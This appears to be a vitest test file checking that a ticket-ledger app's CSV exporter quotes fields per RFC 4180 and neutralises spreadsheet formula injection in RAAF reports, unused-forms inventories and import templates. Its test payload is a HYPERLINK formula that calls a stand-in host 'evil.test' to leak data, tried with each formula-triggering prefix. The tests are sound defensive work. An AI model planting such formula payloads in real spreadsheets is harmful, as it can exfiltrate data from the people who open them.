import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { raafCsv } from '../features/ledger/raaf.ts';
import { templateCsv } from '../features/imports/parse.ts';
import { unusedFormsCsv } from '../features/registered-series/unused-forms.ts';
import { csvCell, csvText } from './csv.ts';

/** OWASP CSV injection: every character a spreadsheet starts a formula or a DDE call with. */
const PREFIXES = ['=', '+', '-', '@', '\t', '\r'];
const payload = (prefix: string) => `${prefix}HYPERLINK("http://evil.test/?leak","x")`;
const cellsOf = (text: string) => parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
const planted = (cells: string[][]) => cells.flat().filter((cell) => cell.includes('HYPERLINK'));

const group = { qty: 0, ranges: [] };
const issued = { ...group, by_kind: { used: 0, cancelled: 0, lost: 0, transferred: 0 } };

describe('the one CSV encoder', () => {
  it('when a field holds a comma, a quote or a line break, then it is quoted as RFC 4180 says; plain fields stay bare', () => {
    expect(csvCell('Batangas, Port')).toBe('"Batangas, Port"');
    expect(csvCell('the "front" desk')).toBe('"the ""front"" desk"');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('Calapan')).toBe('Calapan');
    expect(
      csvText(
        [
          ['a', 1],
          ['b', 2],
        ],
        { bom: true },
      ),
    ).toBe('\uFEFFa,1\r\nb,2\r\n');
  });

  it('when a text begins with = + - @, a tab or a carriage return, then the cell is quoted and starts with a single quote', () => {
    for (const prefix of PREFIXES) {
      const cell = csvCell(payload(prefix));
      expect(cell, JSON.stringify(prefix)).toBe(`"'${payload(prefix).replaceAll('"', '""')}"`);
      expect(cellsOf(`${cell}\r\n`)).toEqual([[`'${payload(prefix)}`]]);
    }
  });

  it('when a cell is a number, negative too, or a text that is only a number or a lone dash, then it is written as it is', () => {
    expect(csvCell(-1200)).toBe('-1200');
    expect(csvCell(0)).toBe('0');
    expect(csvCell('-12.5')).toBe('-12.5');
    expect(csvCell('+63')).toBe('+63');
    expect(csvCell('-')).toBe('-');
    expect(csvCell('-1+2')).toBe('"\'-1+2"');
  });

  it('when a RAAF names a company, route and remark that begin like formulas, then each of those cells is neutralised', () => {
    for (const prefix of PREFIXES) {
      const text = raafCsv([
        {
          route: { id: 1, name: payload(prefix), tin: payload(prefix), company: payload(prefix) },
          beginning: group,
          receipt: group,
          issued,
          ending: group,
          remarks: [payload(prefix)],
        },
      ]);
      const cells = planted(cellsOf(text));
      expect(cells, JSON.stringify(prefix)).toEqual(Array.from({ length: 4 }, () => `'${payload(prefix)}`));
      expect(cellsOf(text)[1][3]).toBe('0');
    }
  });

  it('when the unused-forms inventory names a branch, holder and courier that begin like formulas, then they are neutralised', () => {
    for (const prefix of PREFIXES) {
      const text = unusedFormsCsv({
        date: '2026-11-01',
        total: 50,
        establishments: [
          {
            branch: { id: 1, name: payload(prefix) },
            qty: 50,
            series: [
              {
                registered_series: null,
                role: null,
                route: { id: 1, name: 'Batangas - Calapan', tin: '000-111-222', company: payload(prefix) },
                qty: 50,
                ranges: [[1, 50]],
                holders: [
                  {
                    holder: { type: 'user', id: 2, name: payload(prefix), branch: null },
                    qty: 50,
                    ranges: [[1, 50]],
                    outside_establishment: false,
                  },
                ],
              },
            ],
          },
        ],
        in_transit: [{ invoice_id: 9, courier: payload(prefix), pads: [{ id: 1, number: 1, route: 'R', series_number: '1-50' }] }],
      }).toString('utf8');
      expect(planted(cellsOf(text)), JSON.stringify(prefix)).toEqual(Array.from({ length: 4 }, () => `'${payload(prefix)}`));
    }
  });

  it('when an import template is written, then it goes through the same encoder', () => {
    expect(templateCsv(['route', 'remarks'], ['Batangas, Port', payload('=')])).toBe(
      `\uFEFFroute,remarks\r\n"Batangas, Port","'${payload('=').replaceAll('"', '""')}"\r\n`,
    );
  });
});
